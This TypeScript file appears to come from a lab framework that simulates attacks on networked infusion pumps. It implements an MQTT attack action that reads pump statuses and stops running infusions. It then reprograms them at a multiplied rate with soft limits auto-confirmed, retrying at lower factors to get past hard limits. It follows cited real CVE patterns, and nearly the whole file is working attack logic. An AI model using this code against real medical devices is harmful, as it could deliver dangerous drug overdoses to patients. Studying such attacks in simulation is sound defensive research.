import { z } from 'zod';
import {
  commandResultSchema,
  type Infusion,
  type StatusMessage,
} from '../../simulators/contract/pump-messages.ts';
import { commandSchema, type Command } from '../../simulators/contract/server-commands.ts';
import { pumpTopic } from '../../simulators/contract/topics.ts';
import { fromMlPerHour } from '../../simulators/pump/dose-calculator.ts';
import type { Action, AttackContext, ClientEvidence } from './action.ts';
import { openBrokerSession } from './broker-session.ts';
import type { MqttSession } from './clients/mqtt-session.ts';
import { evidence, evidenceCodes, report, statusOf } from './evidence.ts';
import { mqttIdentitySchema } from './mqtt-identities.ts';
import { retainedStatuses } from './retained-statuses.ts';
import { drugEntry, fabricatedId, knownSerials, roundRate } from './targets.ts';

const params = z.strictObject({
  identity: mqttIdentitySchema,
  /** The running rate is multiplied by this. */
  rateFactor: z.number().positive().max(100),
  targets: z.enum(['one', 'all']),
});

/** Real milliseconds to wait for the pumps' command results after the last PUBACK. */
const resultWaitMs = 3_000;

/**
 * Reprograms running infusions over the broker, as a rogue pump server would (CVE-2021-33882,
 * CVE-2020-12040 pattern): learns serials and infusions from the retained statuses, then, on each
 * target's command topic, a contract `stop` and a `program` of the same infusion at `rateFactor`
 * times its rate, auto-started with the soft limits "confirmed". A pump never reprograms a running
 * infusion (delivery.ts, PUMP_BUSY), hence the stop. Done when the broker acknowledged a command.
 */
export const mqttCommand: Action<typeof params> = {
  name: 'mqtt-command',
  summary: 'Publishes contract commands that restart running infusions at a multiplied rate.',
  params,
  async run(context, { identity, rateFactor, targets }) {
    const opened = await openBrokerSession(context, identity, knownSerials(context)[0]);
    if (!opened.ok) return opened.report;
    const { session, where, items } = opened.broker;
    try {
      const learned = await retainedStatuses(session);
      if (!learned.ok) {
        items.push(evidence('mqtt', learned.code, `status subscription: ${learned.line}`, where));
        return report('blocked', 'The broker would not show the pumps’ status.', items);
      }
      context.loot.data.push(...learned.payloads);
      const running = learned.statuses.filter((status) => status.state === 'infusing' && status.infusion);
      const chosen = targets === 'one' ? running.slice(0, 1) : running;
      if (chosen.length === 0) {
        items.push(
          evidence('mqtt', evidenceCodes.notInfusing, `${learned.statuses.length} pump(s), none infusing`),
        );
        return report('blocked', 'No infusing pump to reprogram.', items);
      }
      const acked = await command(context, session, chosen, rateFactor, items);
      const summary = `The broker acknowledged ${acked} command(s) to ${chosen.length} infusing pump(s).`;
      return report(statusOf(acked > 0), summary, items);
    } finally {
      await session.close();
    }
  },
};

/**
 * Publishes `stop` and a `program` at `factor` times the rate to each pump; returns how many
 * commands the broker acknowledged. An attacker who can read the results (no broker authorization)
 * halves the factor while the pump's drug library refuses the rate (PUMP_HARD_LIMIT), as one would
 * by trial at the keyboard, down to a quarter over the order.
 */
async function command(
  context: AttackContext,
  session: MqttSession,
  pumps: StatusMessage[],
  factor: number,
  items: ClientEvidence[],
): Promise<number> {
  const results = new Map<string, { outcome: string; reason?: string | undefined }>();
  session.onMessage((_topic, payload) => {
    const result = commandResultSchema.safeParse(safeJson(payload.toString('utf8')));
    if (result.success) results.set(result.data.commandId, result.data);
  });
  let acked = 0;
  for (const pump of pumps) {
    const readable = (await session.subscribe(pumpTopic(pump.serial, 'command-results'))).ok;
    for (const [index, order] of commandsFor(pump, factor, context.lab.now()).entries()) {
      let attempt: Command | undefined = order;
      for (let tried = factor; attempt; attempt = retry(pump, order, (tried /= 2), context.lab.now())) {
        const published = await session.publish(pumpTopic(pump.serial, 'commands'), JSON.stringify(attempt));
        const label = attempt.kind === 'program' ? `program ×${tried}` : attempt.kind;
        if (!published.ok) {
          items.push(evidence('mqtt', published.code, `${label}: ${published.line}`, pump.serial));
          return acked;
        }
        acked += 1;
        items.push(evidence('mqtt', evidenceCodes.puback, `${label} acknowledged`, pump.serial));
        const result = readable ? await resultOf(results, attempt.commandId, session) : undefined;
        if (result) {
          const code = result.outcome === 'accepted' ? evidenceCodes.accepted : (result.reason ?? 'REJECTED');
          items.push(evidence('mqtt', code, `pump answered ${label}`, pump.serial));
        }
        if (index === 0 || result?.reason !== 'PUMP_HARD_LIMIT') break;
      }
    }
  }
  return acked;
}

/** The same program at a lower factor, while still a quarter over the order; else undefined. */
function retry(pump: StatusMessage, order: Command, factor: number, now: number): Command | undefined {
  if (order.kind !== 'program' || factor < 1.25) return undefined;
  return commandsFor(pump, factor, now)[1];
}

/** The pump's answer to `commandId`, waited for a few real seconds; undefined without one. */
async function resultOf(
  results: ReadonlyMap<string, { outcome: string; reason?: string | undefined }>,
  commandId: string,
  session: MqttSession,
): Promise<{ outcome: string; reason?: string | undefined } | undefined> {
  const deadline = Date.now() + resultWaitMs;
  while (!results.has(commandId) && Date.now() < deadline && session.connected) {
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return results.get(commandId);
}

/** The contract commands that restart `pump`'s infusion at `factor` times its rate. */
function commandsFor(pump: StatusMessage, factor: number, now: number): Command[] {
  const infusion = pump.infusion;
  if (!infusion) return [];
  const issuedAt = new Date(now).toISOString();
  const remaining = Math.max(1, Math.round((infusion.vtbi - infusion.volumeInfused) * 10) / 10);
  return [
    commandSchema.parse({ kind: 'stop', commandId: fabricatedId('svc-'), issuedAt }),
    commandSchema.parse({
      kind: 'program',
      commandId: fabricatedId('svc-'),
      issuedAt,
      order: {
        infusionId: infusion.infusionId,
        ...(infusion.patientId === undefined ? {} : { patientId: infusion.patientId }),
        drugId: infusion.drugId,
        rate: roundRate(infusion.rate * factor),
        ...weightOf(infusion),
        vtbi: remaining,
        confirmSoftLimit: true,
        autoStart: true,
      },
    }),
  ];
}

/**
 * The patient weight a weight-based infusion implies (its rate and dose rate at the library's
 * concentration): a pump needs it to check a weight-based dose, and the status does not carry it.
 */
function weightOf(infusion: Infusion): { weightKg?: number } {
  const dose = infusion.doseRate;
  const drug = drugEntry(infusion.drugId);
  if (!dose || !dose.unit.includes('/kg/') || dose.value <= 0 || !drug) return {};
  const perKilogram = fromMlPerHour(infusion.rate, dose.unit, drug.entry.concentration, 1);
  const weightKg = Math.round((perKilogram / dose.value) * 10) / 10;
  return weightKg > 0 && weightKg <= 500 ? { weightKg } : {};
}

function safeJson(text: string): unknown {
  try {
    return JSON.parse(text) as unknown;
  } catch {
    return undefined;
  }
}
